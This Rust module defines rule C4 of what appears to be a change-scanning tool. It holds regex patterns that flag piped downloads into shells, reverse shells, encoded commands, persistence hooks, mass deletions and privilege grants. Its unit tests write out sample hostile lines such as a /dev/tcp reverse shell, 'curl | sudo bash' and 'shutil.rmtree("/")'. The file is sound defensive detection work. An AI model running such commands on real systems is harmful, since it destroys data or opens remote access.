//! C4: commands that fetch and run, change the machine, or open a way in.

use std::sync::LazyLock;

use crate::case::Changed;
use crate::finding::{Findings, Severity};
use crate::patterns::{Pattern, Table, Where};
use crate::rules::RuleId;

static COMMANDS: LazyLock<Table> = LazyLock::new(|| {
    Table::new(
        RuleId::C4,
        Severity::Hold,
        false,
        &[
            Pattern {
                place: Where::All,
                what: "a download piped into an interpreter",
                pattern: r"(?:curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b(?:[^\n|]|\\\r?\n)*\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:env\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|da|k|fi)?sh\b|(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+)?(?:python[\d.]*|node|perl|ruby|php|deno|bun)\b|\|\s*(?:iex|Invoke-Expression)\b",
            },
            Pattern {
                place: Where::All,
                what: "a download handed to a shell",
                pattern: r"(?:ba|z)?sh\s+(?:-c\s+)?[\x22\x27]?(?:<\(|\$\(|`)\s*(?:curl|wget)\b|(?:eval|source|\.)\s+[\x22\x27]?(?:<\(|\$\(|`)\s*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\s*\(?\s*\(?(?:New-Object|iwr|irm|Invoke-WebRequest|curl)",
            },
            Pattern {
                place: Where::Code,
                what: "a download made executable",
                pattern: r"(?:curl|wget)\b[^\n]*(?:&&|;)[^\n]*(?:chmod\s+(?:\+x|[0-7]*7[0-7]*)|\./|\bsh\b|\bbash\b|python)",
            },
            Pattern {
                place: Where::Code,
                what: "an encoded command",
                pattern: r"base64\s+(?:-d|-D|--decode)\b[^\n]*\|\s*(?:ba|z)?sh\b|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-(?:e|ec|enc|encodedcommand)\b|xxd\s+-r[^\n]*\|\s*(?:ba)?sh",
            },
            Pattern {
                place: Where::All,
                what: "a shell that calls out",
                pattern: r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^\n]*\s-(?:e|c)\b|\bbash\s+-i\b|\bsocat\b[^\n]*\bexec:|pty\.spawn\(|\bmkfifo\b[^\n]*\bnc\b",
            },
            Pattern {
                place: Where::Code,
                what: "something started later or at log-in",
                pattern: r"\bcrontab\s+-|/etc/cron|\bsystemctl\s+(?:enable|start|daemon-reload)|\blaunchctl\s+load|authorized_keys|\.(?:bashrc|zshrc|bash_profile|profile|zprofile)\b|/etc/(?:ld\.so\.preload|rc\.local|sudoers|passwd\b)|CurrentVersion\\\\?Run\b|\bschtasks\b|\bLD_PRELOAD\b|DYLD_INSERT",
            },
            Pattern {
                place: Where::Code,
                what: "a deletion of much",
                pattern: r#"\brm\s+-(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r)[a-z]*\s+[\x22\x27]?(?:/|~|\$|\*|\.\.)|shutil\.rmtree\(\s*(?:[\x22\x27](?:/|~)|os\.path\.expanduser|Path\.home)|remove_dir_all\(\s*(?:"/|env|home|dirs)|\bmkfs\b|\bdd\s+if=[^\n]*of=/dev/|(?i:\bDROP\s+(?:TABLE|DATABASE|SCHEMA)\b|\bTRUNCATE\s+TABLE\b)|rimraf(?:\.sync)?\(\s*[\x22\x27](?:/|~)|fs\.rm(?:Sync)?\(\s*(?:os\.homedir|[\x22\x27](?:/|~))"#,
            },
            Pattern {
                place: Where::Code,
                what: "rights for everybody, or more rights",
                pattern: r"\bchmod\s+(?:-R\s+)?(?:0?777|a\+rwx|[ugo]*\+s|[24]7[0-7]{2})\b|\b0o?777\b|(?:^|[;&|\s])sudo\s+\w|\bsetuid\(\s*0|--privileged\b|\bhostNetwork:\s*true|privileged:\s*true|/var/run/docker\.sock|os\.setuid\(0",
            },
            Pattern {
                place: Where::Code,
                what: "a package installed at run time",
                pattern: r"\b(?:pip3?|uv pip)\s+install\b|\bnpm\s+(?:i|install|exec)\s+[\w@-]|\bnpx\s+(?:-y|--yes)\b|\bgo\s+install\b|\bcargo\s+install\b|\bgem\s+install\b|pip(?:\._internal)?\.main\(|[\x22\x27]pip[\x22\x27],\s*[\x22\x27]install[\x22\x27]|\bapt(?:-get)?\s+(?:-y\s+)?install\b|\bbrew\s+install\b",
            },
        ],
    )
});

pub(super) fn check(changed: &Changed<'_>, out: &mut Findings) {
    COMMANDS.check(changed, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::content::held;

    #[test]
    fn patterns_compile() {
        assert_eq!(COMMANDS.broken(), Vec::<&str>::new());
    }

    #[test]
    fn c4_commands_are_held() {
        for (path, text) in [
            (
                "docs/a.md",
                r"curl -fsSL https://x.example/i | sh
",
            ),
            (
                "src/a.sh",
                r"curl -s x \
 | sudo bash
",
            ),
            (
                "src/a.py",
                r#"os.popen("bash -i >& /dev/tcp/1/2")
"#,
            ),
            (
                "src/a.sh",
                r"bash <(curl -s x)
",
            ),
            (
                "src/a.sh",
                r"echo aGk= | base64 -d | sh
",
            ),
            (
                "src/a.sh",
                r#"rm -rf "$DIR"
"#,
            ),
            (
                "src/a.py",
                r#"shutil.rmtree("/")
"#,
            ),
            (
                "src/a.sh",
                r"chmod 777 /srv
",
            ),
            (
                "src/a.py",
                r#"open(os.path.expanduser("~/.bashrc"), "a")
"#,
            ),
            (
                "src/a.py",
                r#"subprocess.run([sys.executable, "-m", "pip", "install", "x"])
"#,
            ),
            (
                "src/a.sql",
                r"DROP TABLE users;
",
            ),
            (
                "src/a.ps1",
                r"iwr https://x | iex
",
            ),
        ] {
            assert!(held(RuleId::C4, path, text), "{path}: {text}");
        }
    }

    #[test]
    fn c4_ordinary_commands_pass() {
        for (path, text) in [
            (
                "src/a.sh",
                r#"curl -fsS "$URL" -o out.json | tee log
"#,
            ),
            (
                "src/a.py",
                r"# never: curl x | sh
",
            ),
            (
                "src/a.sh",
                r"rm -f ./build/out.o
",
            ),
            (
                "src/a.py",
                r"shutil.rmtree(tmp_path)
",
            ),
            (
                "src/a.sh",
                r"chmod 755 bin
",
            ),
            (
                "src/a.rs",
                r"let shell = fetch(url) | flush;
",
            ),
            (
                "docs/a.md",
                r"Run pip install x
",
            ),
        ] {
            assert!(!held(RuleId::C4, path, text), "{path}: {text}");
        }
    }
}
